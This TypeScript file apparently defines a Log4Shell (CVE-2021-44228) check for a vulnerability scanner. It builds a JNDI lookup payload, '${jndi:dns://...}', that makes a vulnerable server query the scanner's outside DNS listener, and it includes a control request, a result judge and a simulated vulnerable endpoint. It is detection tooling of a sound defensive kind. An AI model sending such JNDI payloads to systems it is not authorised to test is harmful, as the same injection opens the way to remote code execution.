import type { OutsideNames } from '../../../oracle/outside.ts';
import { definePointCheck, type Point } from '../../define-active-check.ts';
import { at, evenUnanswered, type Nonce } from '../../experiment.ts';
import type { LabTools } from '../../lab.ts';

const yearsAround = () => [-1, 0, 1].map((more) => new Date().getUTCFullYear() + more);

function control(point: Point, { word }: Nonce, outside: OutsideNames) {
  const tag = `${word}-control`;
  const label = 'the name without anything that a log would do with it';
  return at(point, label, `dns://${outside.hostFor(tag)}`, { calling: { tag, kind: 'dns' }, isControl: true });
}

export default definePointCheck({
  id: 'log4shell',
  title: 'Log4Shell: Log4j evaluates lookups in logged input',
  cwe: 917,
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:H/A:H',
  cvss4: 'CVSS:4.0/AV:N/AC:L/AT:N/PR:N/UI:N/VC:H/VI:H/VA:H/SC:N/SI:N/SA:N',
  impact: 'An attacker runs arbitrary code on the server by sending one text that it logs.',
  why: 'The application logs the value with a Log4j version before 2.17, which evaluates JNDI lookups in log messages (CVE-2021-44228). An attacker makes it load and run code from a server of their own. A lookup in the value caused a DNS query to our listener.',
  fix: 'Update log4j-core to the latest release of its line, also in dependencies and products that bundle it. Block outgoing LDAP and RMI connections from the servers.',
  references: [
    'https://logging.apache.org/security.html',
    'https://nvd.nist.gov/vuln/detail/CVE-2021-44228',
    'https://cwe.mitre.org/data/definitions/917.html',
  ],
  risk: 'harmless',
  depth: 'STANDARD',
  locations: ['query', 'path', 'form', 'json', 'xml', 'graphql', 'cookie', 'header'],
  appliesTo: () => true,
  needsOutside: 'dns',
  // Software that resolves every host name it sees does not evaluate the date lookup.
  variants: [`\${date:yyyy}`],
  maxRequests: 5,
  proof: {
    plan(point, year, nonce, { outside }) {
      const { word, numbers } = nonce;
      const host = outside?.hostFor(word);
      if (!outside || !host) return undefined;
      const value = `\${jndi:dns://${year}-${numbers[0]}.${host}}`;
      return {
        control: evenUnanswered(control(point, nonce, outside)),
        attack: evenUnanswered(
          at(point, 'JNDI lookup of our listener', value, { calling: { tag: word, kind: 'dns' } }),
        ),
      };
    },
    judge({ control, attack }, _year, { numbers: [number] }) {
      const heard = attack.heard ?? [];
      if (yearsAround().some((year) => heard.some(({ detail }) => detail === `${year}-${number}`))) return 'PROVED';
      if ((control.heard ?? []).length > 0) return 'REFUTED';
      return heard.length > 0 ? 'LIKELY' : 'VOID';
    },
  },
  lab(tools?: LabTools) {
    const log = async (line: string) => {
      const computed = line.replaceAll(/\$\{date:yyyy\}/g, String(new Date().getUTCFullYear()));
      const [, name] = /\$\{jndi:dns:\/\/([^}/]+)\}/.exec(computed) ?? [];
      if (name !== undefined) await tools?.lookUp(name);
    };
    return {
      location: 'header',
      parameter: 'Referer',
      value: '',
      async vulnerable(value) {
        await log(value);
        return { body: 'Hello' };
      },
      safe: () => ({ body: 'Hello' }),
    };
  },
});
